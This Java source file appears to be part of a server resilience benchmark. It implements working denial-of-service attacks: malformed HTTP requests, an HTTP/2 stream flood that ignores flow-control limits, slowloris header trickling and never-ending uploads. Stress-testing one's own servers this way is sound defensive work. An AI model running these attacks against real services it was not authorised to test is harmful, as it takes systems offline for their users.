package io.parley.bench.attack;

import java.io.IOException;
import java.util.List;

/// Attacks that HTTP clients cannot be brought to.
final class WireAttacks {
  private static final int ANSWER_MS = 2_000;
  private static final int TRICKLE_MS = 1_000;

  private WireAttacks() {}

  /// Requests that break the protocol, on every path in turn.
  record Malformed(Victim victim) implements Attack {
    private static final List<String> PATHS =
        List.of("/v1/users", "/login", "/api/user.service.login", "/android/login/", "/v1/images");
    private static final List<String> REQUESTS =
        List.of(
            "POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\n",
            "POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: minus\r\n\r\n",
            "POST %s HTTP/1.1\r\nHost: x\r\nX-Long: " + "a".repeat(9_000) + "\r\n\r\n",
            "FROB %s HTTP/1.1\r\nHost: x\r\n\r\n",
            "POST %s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
            "POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\n{",
            "GET %s HT",
            "\0\1\2 %s\r\n\r\n");

    @Override
    public String name() {
      return "malformed requests";
    }

    @Override
    public int atOnce() {
      return 48;
    }

    @Override
    public String strike(long number, long untilNanos) throws IOException {
      String request = REQUESTS.get((int) (number % REQUESTS.size()));
      String path = PATHS.get((int) (number / REQUESTS.size() % PATHS.size()));
      try (Wire wire = new Wire(victim)) {
        wire.say(request.formatted(path));
        return wire.status(ANSWER_MS);
      }
    }
  }

  /// Connections with hundreds of streams, a megabyte each, that heed neither limits nor windows.
  record Streams(Victim victim) implements Attack {
    private static final int STREAMS = 700;
    private static final int PIECE_BYTES = 16_384;
    private static final int PIECES = 64;
    private static final List<String> PATHS =
        List.of("/v1/users", "/v1/groups", "/api/user.service.login", "/login");

    @Override
    public String name() {
      return "HTTP/2 streams";
    }

    @Override
    public int atOnce() {
      return 8;
    }

    @Override
    public String strike(long number, long untilNanos) throws IOException {
      byte[] head = Http2.post(PATHS.get((int) (number % PATHS.size())));
      byte[] piece = new byte[PIECE_BYTES];
      java.util.Arrays.fill(piece, (byte) ' ');
      try (Wire wire = new Wire(victim)) {
        Thread.ofVirtual().start(wire::drain);
        wire.say(Http2.preface());
        for (int i = 0; i < STREAMS; i++) {
          wire.say(Http2.headers(2 * i + 1, head));
        }
        for (int i = 0; i < PIECES * STREAMS; i++) {
          if (System.nanoTime() - untilNanos >= 0) {
            return "held";
          }
          wire.say(Http2.data(2 * (i % STREAMS) + 1, piece));
        }
        return "taken";
      }
    }
  }

  /// Heads that never end, a byte a second.
  record SlowHeads(Victim victim) implements Attack {
    @Override
    public String name() {
      return "slow heads";
    }

    @Override
    public int atOnce() {
      return 300;
    }

    @Override
    public String strike(long number, long untilNanos) throws IOException {
      try (Wire wire = new Wire(victim)) {
        wire.say("GET /v1/ping HTTP/1.1\r\nHost: x\r\nX-Slow: ");
        return wire.trickle(untilNanos, TRICKLE_MS);
      }
    }
  }

  /// Uploads that never end, a byte a second.
  record SlowUploads(Victim victim) implements Attack {
    @Override
    public String name() {
      return "slow uploads";
    }

    @Override
    public int atOnce() {
      return 64;
    }

    @Override
    public String strike(long number, long untilNanos) throws IOException {
      try (Wire wire = new Wire(victim)) {
        wire.say(
            "POST /v1/files HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
                + victim.token(number)
                + "\r\nContent-Length: 1000000\r\n\r\n");
        return wire.trickle(untilNanos, TRICKLE_MS);
      }
    }
  }
}
